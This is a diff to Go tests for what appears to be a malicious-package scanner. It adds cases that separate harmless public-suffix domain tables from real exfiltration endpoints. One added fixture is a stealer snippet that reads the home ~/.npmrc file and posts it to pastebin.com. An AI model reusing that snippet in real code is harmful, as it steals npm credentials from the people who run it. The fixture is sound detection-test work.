@@ -102,6 +102,13 @@ func TestBehaviourClasses(t *testing.T) {
 			"func Start() error {\n\tif err := os.Chmod(sockDir, 0o777); err != nil {\n\t\treturn err\n\t}\n\t_, _ = http.Get(\"http://localhost/_ping\")\n\treturn exec.Command(\"dockerd\").Start()\n}\n"}, "go-exec-payload", quiet, 0},
 		{"go writes a config then builds", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Build(b []byte) error {\n\tos.WriteFile(\"gen.go\", b, 0644)\n\treturn exec.Command(\"go\", \"build\", \"./...\").Run()\n}\n"}, "go-exec-payload", quiet, 0},
 
+		// exfil-endpoint: a domain table is data (yarn bundles the public suffix list)
+		{"public suffix table next to an ignore list", map[string]string{"lib/cli.js": "const ignore = ['.npmrc', '.yarnrc', '.gitignore'];\n" +
+			`const psl = {"bitballoon.com":true,"netlify.com":true,"4u.com":true,"ngrok.io":true,"nh-serv.co.uk":true,"nfshost.com":true,"dnsking.ch":true,"mypi.co":true,"n4t.co":true,"001www.com":true,"ddnslive.com":true,"myiphost.com":true,"forumz.info":true};` + "\n" +
+			"https.get(u);\n"}, "credential-read", quiet, 0},
+		{"public suffix table (exfil-endpoint)", map[string]string{"lib/psl.js": `module.exports = {"bitballoon.com":true,"netlify.com":true,"4u.com":true,"ngrok.io":true,"nh-serv.co.uk":true,"nfshost.com":true,"myiphost.com":true,"ddnslive.com":true};` + "\n"}, "exfil-endpoint", quiet, 0},
+		{"stealer posting to a paste site", map[string]string{"lib/x.js": "const t = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');\nhttps.request({ hostname: 'pastebin.com', path: '/api/api_post.php', method: 'POST' }).end(t);\n"}, "credential-read", record.Critical, 0},
+
 		// generated Go code: syscall tables name APIs without using them
 		{"generated syscall table", map[string]string{"windows/zsyscall_windows.go": zsys}, "browser-data", quiet, 0},
 		{"hand-written syscall table", map[string]string{"windows/syscall_windows.go": "package windows\n\nvar procCryptUnprotectData = modcrypt32.NewProc(\"CryptUnprotectData\")\n"}, "browser-data", record.Medium, 0},
